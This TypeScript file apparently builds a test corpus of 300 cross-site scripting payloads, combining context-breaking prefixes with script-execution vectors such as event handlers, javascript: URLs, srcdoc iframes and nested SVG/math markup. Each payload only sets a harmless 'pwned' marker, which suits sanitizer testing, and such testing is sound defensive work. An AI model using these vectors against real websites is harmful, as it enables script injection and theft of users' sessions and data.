/** Ways to close what stands around a value: a text node, an attribute in either quote, a textarea, a script, a comment. */
const OPENINGS = [
  '',
  '">',
  "'>",
  '"><!--',
  '</textarea>',
  '</title></head>',
  '</script>',
  '--><',
  ']]>',
  '\u2028',
] as const;

/** Things that run when they become markup. Each says so by setting `window.pwned`. */
const EXECUTIONS = [
  '<script>pwned=1</script>',
  '<script src="data:text/javascript,pwned=1"></script>',
  '<img src=x onerror=pwned=1>',
  '<img src=x onerror="pwned=1" ',
  '<svg onload=pwned=1>',
  '<svg><animate onbegin=pwned=1 attributeName=x dur=1s>',
  '<svg><script>pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:pwned=1"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<object data="javascript:pwned=1"></object>',
  '<embed src="javascript:pwned=1">',
  '<body onload=pwned=1>',
  '<details open ontoggle=pwned=1>',
  '<video><source onerror=pwned=1></video>',
  '<audio src=x onerror=pwned=1>',
  '<input autofocus onfocus=pwned=1>',
  '<select autofocus onfocus=pwned=1>',
  '<marquee onstart=pwned=1>',
  '<style>@import "javascript:pwned=1";</style>',
  '<link rel=stylesheet href="data:text/css,*{}" onload=pwned=1>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned=1">',
  '<base href="javascript:pwned=1//">',
  '<form><button formaction="javascript:pwned=1">x</button></form>',
  '<a href="javascript:pwned=1">x</a>',
  '<template><script>pwned=1</script></template><x>',
  ' onfocus=pwned=1 autofocus tabindex=0 x=',
  '{{constructor.constructor("pwned=1")()}}',
  '<textarea autofocus onfocus=pwned=1>',
] as const;

/** Three hundred texts that run a script wherever they are taken for markup. */
export const SCRIPT_PAYLOADS: readonly string[] = OPENINGS.flatMap((opening) =>
  EXECUTIONS.map((execution) => opening + execution),
);
